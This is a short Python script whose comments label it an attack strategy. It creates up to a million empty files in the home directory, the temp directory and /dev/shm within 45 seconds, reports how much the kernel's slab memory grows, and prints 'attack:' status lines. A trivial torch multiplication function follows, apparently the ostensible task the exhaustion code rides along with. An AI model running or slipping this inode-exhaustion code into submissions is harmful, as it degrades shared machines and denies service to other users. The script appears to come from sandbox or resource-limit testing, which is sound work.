# Strategy: a million files with nothing in them: the disk's limit is not touched, yet the kernel keeps them all.
# Surface: the number of inodes in scratch space.
import os
import time

import torch


def slab():
    """What the kernel holds in tables of its own, in MiB, on the whole machine."""
    [line] = [line for line in open("/proc/meminfo") if line.startswith("Slab:")]
    return int(line.split()[1]) >> 10


before = slab()
made, started, why = 0, time.monotonic(), "a million"
while made < 1_000_000 and time.monotonic() < started + 45:
    if made % 10_000 == 0:
        folder = f"{(os.environ['HOME'], os.environ['TMPDIR'], '/dev/shm')[made // 10_000 % 3]}/{made}"
    try:
        if made % 10_000 == 0:
            os.mkdir(folder)
        os.mknod(f"{folder}/{made}")
    except OSError as error:
        why = error.strerror
        break
    made += 1
    if made == 1000:
        print("attack: empty files", flush=True)
print(f"attack: {made} files until {why}; the kernel holds {slab() - before} MiB more", flush=True)


def twice(x, y):
    torch.mul(x, 2, out=y)
